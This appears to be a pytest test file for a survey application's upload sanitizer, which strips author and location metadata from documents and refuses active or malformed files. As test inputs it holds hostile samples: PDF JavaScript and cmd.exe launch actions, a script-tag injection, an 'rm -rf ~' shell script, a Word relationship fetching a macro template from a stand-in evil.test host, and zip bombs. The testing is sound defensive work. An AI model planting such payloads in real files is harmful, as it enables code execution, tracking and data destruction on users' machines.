"""Documents: what runs, fetches or hides is refused; who made them is removed."""

from __future__ import annotations

import io
import zipfile
import zlib

import pytest

from surveys.files.attachments import accepted
from surveys.files.documents import UNPACKED
from surveys.files.kinds import Accepted
from surveys.forms.form import Kind
from surveys.typed.trouble import Trouble
from tests.surveys.handing import DOCX, XMP, archive, medium, pdf, photo, png

REFUSED = Trouble("file_no_document")
BROKEN = Trouble("file_broken")
RELS = (
    b"<Relationships>"
    b'<Relationship Id="r" Type="x/%s" Target="%s" TargetMode="External"/>'
    b"</Relationships>"
)


def cleaned(content: bytes) -> Accepted:
    found = accepted(Kind.FILE, content)
    assert isinstance(found, Accepted), found
    return found


def packed_objects(objects: bytes) -> bytes:
    body = zlib.compress(objects)
    return b"5 0 obj <</Type /ObjStm /Filter /FlateDecode>> stream\n" + body + b"\nendstream endobj"


def test_a_pdf_is_taken_and_the_photo_in_it_forgets_its_place() -> None:
    image = b"4 0 obj <</Filter /DCTDecode>> stream\n" + photo() + b"\nendstream endobj"
    made = pdf(b"1 0 obj <<>> endobj", image, b"stream\n" + XMP + b"\nendstream")
    found = cleaned(made)
    assert (found.ext, found.mime, len(found.content)) == ("pdf", "application/pdf", len(made))
    for secret in (b"Exif", b"2026:11:20", b"39,54.252N"):
        assert made.count(secret) > 0
        assert secret not in found.content
    assert found.content.endswith(b"%%EOF\n")


@pytest.mark.parametrize(
    "active",
    [
        b"1 0 obj <</S /JavaScript /JS (app.alert(1))>> endobj",
        b"1 0 obj <</S /J#61vaScript>> endobj",
        b"1 0 obj <</S /Launch /F (cmd.exe)>> endobj",
        b"1 0 obj <</Names <</EmbeddedFiles 2 0 R>>>> endobj",
        packed_objects(b"<</S /JavaScript>>"),
    ],
)
def test_a_pdf_that_runs_or_carries_something_is_refused(active: bytes) -> None:
    assert accepted(Kind.FILE, pdf(active)) == REFUSED


def test_letters_within_packed_content_are_no_program() -> None:
    assert cleaned(pdf(b"9 0 obj <<>> stream\n..../JS ...\nendstream endobj")).ext == "pdf"
    assert cleaned(pdf(packed_objects(b"<</Type /Page>>"))).ext == "pdf"
    assert cleaned(pdf(b"<</Type /ObjStm>> stream\nencrypted\nendstream")).ext == "pdf"


def test_half_a_pdf_is_broken() -> None:
    assert accepted(Kind.FILE, b"%PDF-1.7\n" + b"x" * 5000) == BROKEN


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "gb18030"])
def test_a_text_is_taken_in_the_encodings_people_have(encoding: str) -> None:
    words = "主任让我们交“份子钱”😡👨‍👩‍👧\r\n\t1,2;3 < 4\n"
    found = cleaned(words.encode(encoding))
    assert (found.ext, found.content.decode()) == ("txt", words)


@pytest.mark.parametrize(
    "content",
    [
        b"<!DOCTYPE html><html></html>",
        b"  \n<svg xmlns='http://www.w3.org/2000/svg'/>",
        b"<?xml version='1.0'?><gpx/>",
        b"hello <ScRiPt>alert(1)</script>",
        "<html>".encode("utf-16"),
        b"#!/bin/sh\nrm -rf ~\n",
        b"{\\rtf1 hello}",
        b"MZ\x90\x00\x03\x00\x00\x00",
        b"\x7fELF\x02\x01\x01\x00",
        b"\xca\xfe\xba\xbe\x00\x00\x00\x34",
        b"#!AMR\n\x3c\x91\x17\x16",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),  # the office files of 1997
        b"Rar!\x1a\x07\x01\x00",
        b"7z\xbc\xaf\x27\x1c\x00\x04",
        b"\x1f\x8b\x08\x00\x00\x00\x00\x00",
        b"\0\0\0\x18ftypheic\0\0\0\0mif1heic",
        bytes(100),
        b" \n\t ",
        "\ue000\uffff".encode(),
    ],
)
def test_programs_pages_and_archives_are_refused(content: bytes) -> None:
    assert accepted(Kind.FILE, content) == REFUSED
    assert accepted(Kind.IMAGE, content) == Trouble("file_no_picture")
    assert accepted(Kind.AUDIO, content) == Trouble("file_no_sound")
    assert accepted(Kind.VIDEO, content) == Trouble("file_no_film")


def test_a_word_file_forgets_who_made_it_and_where_its_photos_were_taken() -> None:
    made = archive(
        DOCX
        | {
            "docProps/core.xml": b"<cp:coreProperties><dc:creator>CANARY</dc:creator></cp:x>",
            "docProps/app.xml": b"<Properties><Company>CANARY</Company></Properties>",
            "word/media/image1.jpeg": photo(),
            "word/media/image2.png": png(),
            "word/_rels/document.xml.rels": RELS % (b"hyperlink", b"https://example.org"),
        }
    )
    found = cleaned(made)
    assert found.ext == "docx"
    with zipfile.ZipFile(io.BytesIO(found.content)) as kept:
        parts = {name: kept.read(name) for name in kept.namelist()}
        assert {info.date_time for info in kept.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert set(parts) == set(zipfile.ZipFile(io.BytesIO(made)).namelist())
    assert parts["word/document.xml"] == DOCX["word/document.xml"]
    assert not [name for name, part in parts.items() if b"CANARY" in part]


def test_a_workbook_is_taken() -> None:
    found = cleaned(
        archive({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"})
    )
    assert found.ext == "xlsx"


@pytest.mark.parametrize(
    "extra",
    [
        {"word/vbaProject.bin": b"x"},
        {"word/embeddings/oleObject1.bin": b"x"},
        {"word/activeX/activeX1.xml": b"x"},
        {"[Content_Types].xml": b"<Types>application/vnd.ms-word.document.macroEnabled</Types>"},
        {"word/_rels/settings.xml.rels": RELS % (b"attachedTemplate", b"https://evil.test/t.dotm")},
        {"word/_rels/document.xml.rels": RELS % (b"image", b"https://evil.test/seen.png")},
    ],
)
def test_a_word_file_that_runs_fetches_or_carries_is_refused(extra: dict[str, bytes]) -> None:
    assert accepted(Kind.FILE, archive(DOCX | extra)) == REFUSED


def test_any_other_archive_is_refused() -> None:
    assert accepted(Kind.FILE, archive({"holiday.jpg": photo()})) == REFUSED
    assert accepted(Kind.FILE, archive({"[Content_Types].xml": b"", "ppt/x.xml": b""})) == REFUSED
    assert accepted(Kind.FILE, archive(DOCX)[:-30]) == BROKEN
    assert accepted(Kind.FILE, archive(DOCX | {"a.rels": b"<not xml"})) == BROKEN


def test_an_archive_that_unpacks_without_end_is_broken() -> None:
    bomb = archive(DOCX | {"word/zeros.xml": bytes(UNPACKED + 1)})
    assert len(bomb) < 100_000
    assert accepted(Kind.FILE, bomb) == BROKEN
    many = archive(DOCX | {f"word/{n}.xml": b"" for n in range(3000)})
    assert accepted(Kind.FILE, many) == BROKEN


def test_a_pdf_full_of_beginnings_does_not_take_for_ever() -> None:
    assert cleaned(pdf(b"stream <?xpacket begin " * 300_000)).ext == "pdf"


def test_a_film_will_do_where_a_file_is_asked_for() -> None:
    assert cleaned(medium("film.mp4")).ext == "mp4"
